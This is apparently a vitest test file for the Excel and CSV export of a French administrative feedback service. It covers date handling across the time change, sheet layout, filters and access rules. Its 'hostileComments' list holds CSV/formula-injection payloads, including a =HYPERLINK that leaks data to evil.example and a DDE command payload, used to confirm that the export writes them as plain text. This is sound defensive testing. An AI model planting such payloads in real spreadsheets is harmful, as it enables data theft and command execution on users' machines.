import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { newSecret, secretHash } from '../../server/src/auth/secrets.ts';
import { parseCsv, readWorkbook, rowsOf, unzip } from '../fixtures/xlsx-reading.ts';
import { startTestApp, type TestApp, testDatabases, uuidv7 } from '../helpers.ts';

const minute = 60 * 1000;

/** Cells that Excel, LibreOffice or Google Sheets would run as formulas if written as one. */
const hostileComments = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
  '+33 c’est le code, puis =1+1',
  '-2+3',
  '@SUM(A1:A9)',
  "\t=cmd|' /C calc'!A0",
];

/** The app with an owner's API key, and answers posted a few minutes apart from `start`. */
async function withAnswers(
  database: Record<string, string>,
  start: string,
  answers: Record<string, unknown>[],
) {
  const t = await startTestApp({ ...database, RATE_LIMIT_PER_HOUR: '100000' });
  const owner = await t.store.createUser({
    email: 'proprietaire@example.gouv.fr',
    passwordHash: 'x',
    isAdmin: false,
  });
  await t.store.setRole(owner?.id as number, t.procedure.key, 'owner');
  const secret = newSecret();
  await t.store.createApiKey({
    userId: owner?.id as number,
    name: 'export',
    keyHash: secretHash(secret),
  });
  t.clock.current = new Date(start);
  for (const answer of answers) {
    t.clock.advance(5 * minute);
    const id = uuidv7(t.clock.current.getTime());
    expect((await t.post({ id, ...answer })).statusCode).toBe(201);
  }
  const get = (path: string) =>
    t.app.inject({
      url: `/api/v1/procedures/${t.procedure.key}${path}`,
      headers: { authorization: `Bearer ${secret}` },
    });
  return { ...t, get };
}

/** The wall-clock time of an instant in Paris, `YYYY-MM-DD hh:mm:ss`, as Intl computes it. */
function parisTime(iso: string): string {
  return new Date(iso).toLocaleString('sv-SE', { timeZone: 'Europe/Paris' });
}

async function csvAndWorkbook(t: Awaited<ReturnType<typeof withAnswers>>, query: string) {
  const csv = await t.get(`/export.csv?${query}`);
  const xlsx = await t.get(`/export.xlsx?${query}`);
  expect(csv.statusCode).toBe(200);
  expect(xlsx.statusCode, xlsx.body.slice(0, 300)).toBe(200);
  return { csv: parseCsv(csv.body), xlsx, workbook: await readWorkbook(xlsx.rawPayload) };
}

/**
 * Every cell of the sheet «Réponses» against the CSV's: text is the same text (a string cell,
 * never a formula), numbers are numbers, «Jour» is that day, «Reçu le» that instant in Paris.
 */
function expectSameAnswers(csv: string[][], sheet: ExcelJS.Worksheet) {
  const rows = rowsOf(sheet);
  const [csvHeader = [], ...csvRows] = csv;
  const [header = [], ...cells] = rows;
  expect(header.map((cell) => cell.value)).toEqual(csvHeader);
  expect(cells).toHaveLength(csvRows.length);
  cells.forEach((row, r) => {
    row.forEach((cell, c) => {
      const expected = csvRows[r]?.[c] ?? '';
      const where = `${csvHeader[c]}, row ${r + 2}`;
      expect(cell.formula, where).toBeUndefined();
      if (expected === '') {
        expect(cell.value ?? null, where).toBeNull();
      } else if (csvHeader[c] === 'Reçu le') {
        expect(cell.value, where).toBeInstanceOf(Date);
        expect((cell.value as Date).toISOString().slice(0, 19).replace('T', ' '), where).toBe(
          parisTime(expected),
        );
        expect(cell.numFmt).toBe('dd/mm/yyyy hh:mm:ss');
      } else if (csvHeader[c] === 'Jour') {
        expect(cell.value, where).toBeInstanceOf(Date);
        expect((cell.value as Date).toISOString(), where).toBe(`${expected}T00:00:00.000Z`);
        expect(cell.numFmt).toBe('dd/mm/yyyy');
      } else if (/^\d+$/.test(expected)) {
        expect(cell.type, where).toBe(ExcelJS.ValueType.Number);
        expect(cell.value, where).toBe(Number(expected));
      } else {
        expect(cell.type, where).toBe(ExcelJS.ValueType.String);
        expect(cell.value, where).toBe(expected);
        expect(cell.numFmt, where).toBe('@');
      }
    });
  });
}

describe.each(testDatabases)('on $name', (database) => {
  describe.skipIf(!database.available)('(runs)', () => {
    describe('Excel export', () => {
      it('holds every answer of the CSV, typed: dates are dates in Paris, numbers are numbers, text is text', async () => {
        // Across the night clocks go forward in Paris (2026-03-29, 01:00 UTC).
        const t = await withAnswers(await database.env(), '2026-03-29T00:40:00Z', [
          {
            satisfaction: 'medium',
            clarity: 3,
            help: ['phone', 'relative'],
            reached: false,
            comment: 'Trop long; vraiment "trop"\net sur deux lignes',
          },
          {
            satisfaction: 'good',
            help: ['phone', 'counter', 'chat', 'other'],
            helpOther: 'Mon voisin',
            reached: { phone: false, counter: true, chat: true },
            helpQuality: { counter: 4, chat: 1 },
            source: 'confirmation',
          },
          { satisfaction: 'bad', help: ['none'], comment: 'Rien ne marche, 0 € remboursé' },
          ...hostileComments.map((comment) => ({ satisfaction: 'bad', comment })),
          { satisfaction: 'good', lang: 'en', comment: 'My email is jean@example.com' },
        ]);
        const { csv, xlsx, workbook } = await csvAndWorkbook(t, 'from=2026-03-01&to=2026-03-31');
        expect(xlsx.headers['content-type']).toBe(
          'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
        );
        expect(xlsx.headers['content-disposition']).toBe(
          `attachment; filename="avis-${t.procedure.key}-2026-03-01-2026-03-31.xlsx"`,
        );
        expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['À lire', 'Réponses']);
        const sheet = workbook.getWorksheet('Réponses') as ExcelJS.Worksheet;
        expect(csv).toHaveLength(1 + 4 + hostileComments.length);
        expectSameAnswers(csv, sheet);
        // Answers on both sides of the change of hour: 01:45 then 03:05 in Paris.
        const received = rowsOf(sheet)
          .slice(1)
          .map((row) => (row[1]?.value as Date | undefined)?.toISOString().slice(11, 16));
        expect(received).toContain('01:45');
        expect(received).toContain('03:05');
      });

      it('writes a hostile =HYPERLINK comment as a string cell, never a formula', async () => {
        const t = await withAnswers(
          await database.env(),
          '2026-03-10T10:00:00Z',
          hostileComments.map((comment) => ({ satisfaction: 'bad', comment })),
        );
        const { workbook, xlsx } = await csvAndWorkbook(t, 'from=2026-03-01&to=2026-03-31');
        const sheet = workbook.getWorksheet('Réponses') as ExcelJS.Worksheet;
        const column = rowsOf(sheet)[0]?.findIndex((cell) => cell.value === 'Commentaire') ?? -1;
        const comments = rowsOf(sheet)
          .slice(1)
          .map((row) => row[column] as ExcelJS.Cell);
        // Each comment's own words, no apostrophe added, typed as text: not even editing the cell
        // in Excel turns it into a formula.
        expect(comments.map((cell) => cell.value).sort()).toEqual(
          hostileComments.map((c) => c.trim()).sort(),
        );
        for (const cell of comments) {
          expect(cell.type).toBe(ExcelJS.ValueType.String);
          expect(cell.formula).toBeUndefined();
          expect(cell.numFmt).toBe('@');
        }
        // The sheet's own XML: each comment a string cell with its value, and no formula anywhere.
        const files = unzip(xlsx.rawPayload);
        const sheetXml = [...files].find(([name]) => name.endsWith('sheet2.xml'))?.[1] ?? '';
        expect(sheetXml).toContain('t="str"><v>=HYPERLINK(&quot;http://evil.example/');
        for (const [name, xml] of files) expect(xml, name).not.toMatch(/<f[ >]/);
      });

      it('freezes its header row, sizes its columns, filters, and starts with «À lire»', async () => {
        const t = await withAnswers(await database.env(), '2026-03-10T10:00:00Z', [
          { satisfaction: 'good', comment: 'Parfait' },
          { satisfaction: 'bad' },
        ]);
        const { workbook } = await csvAndWorkbook(t, 'from=2026-03-01&to=2026-03-31');
        const sheet = workbook.getWorksheet('Réponses') as ExcelJS.Worksheet;
        expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
        expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
        expect(sheet.getColumn(1).width).toBe(38); // a UUID fits
        expect(sheet.getColumn(sheet.columnCount - 4).width).toBe(60); // the comment
        expect(sheet.autoFilter).toBe('A1:X3'); // the header and both answers, every column

        const readMe = workbook.getWorksheet('À lire') as ExcelJS.Worksheet;
        const lines = new Map<string, string>();
        readMe.eachRow((row) => {
          lines.set(String(row.getCell(1).value), String(row.getCell(2).value ?? ''));
        });
        expect([...lines.keys()][0]).toBe('Avis sur «\u202fDemande de passeport\u202f»');
        expect(lines.get('Période')).toBe('Du 01/03/2026 au 31/03/2026, jours comptés inclus.');
        expect(lines.get('Satisfaction usager')).toContain('÷ nombre d’avis');
        expect(lines.get('Marge d’erreur')).toContain('95\u202f%');
        expect(lines.get('Diffusion')).toContain('interne');
      });

      it('keeps the CSV’s theme filter, and says it in «À lire»', async () => {
        const t = await withAnswers(await database.env(), '2026-03-10T10:00:00Z', [
          { satisfaction: 'bad', comment: 'Le site plante à chaque bug' },
          { satisfaction: 'good', comment: 'Parfait' },
        ]);
        const theme = await t.store.createTheme(
          t.procedure.key,
          { name: 'Pannes', keywords: ['bug'] },
          { at: new Date(), actor: 'test', action: 'theme.create', target: '', details: {} },
        );
        const query = `from=2026-03-01&to=2026-03-31&theme=${theme?.id}`;
        const { csv, workbook } = await csvAndWorkbook(t, query);
        expect(csv).toHaveLength(2);
        expectSameAnswers(csv, workbook.getWorksheet('Réponses') as ExcelJS.Worksheet);
        const readMe = workbook.getWorksheet('À lire') as ExcelJS.Worksheet;
        const themeLine = readMe.findRow(4);
        expect(themeLine?.getCell(1).value).toBe('Thème');
        expect(themeLine?.getCell(2).value).toBe(
          'Seulement les avis dont le commentaire relève du thème «\u202fPannes\u202f».',
        );
      });

      it('refuses a period of more than five years with a 400 problem, as the CSV does', async () => {
        const t = await withAnswers(await database.env(), '2026-03-10T10:00:00Z', []);
        for (const format of ['csv', 'xlsx']) {
          const response = await t.get(`/export.${format}?from=2020-01-01&to=2026-03-10`);
          expect(response.statusCode).toBe(400);
          expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
          expect(response.json().errors).toEqual([
            { path: 'to', message: expect.stringMatching(/longer than .* \(5 years\)/) },
          ]);
        }
      });

      it('is an owner’s, as the CSV: a viewer is refused, a stranger told it does not exist', async () => {
        const t: TestApp = await startTestApp(await database.env());
        const path = `/api/v1/procedures/${t.procedure.key}`;
        for (const [role, status] of [
          ['admin', 200],
          ['owner', 200],
          ['viewer', 403],
        ] as const) {
          const as = await t.as(role);
          for (const format of ['csv', 'xlsx'])
            expect((await as({ url: `${path}/export.${format}` })).statusCode, role).toBe(status);
        }
        expect((await t.app.inject({ url: `${path}/export.xlsx` })).statusCode).toBe(401);
      });
    });
  });
});
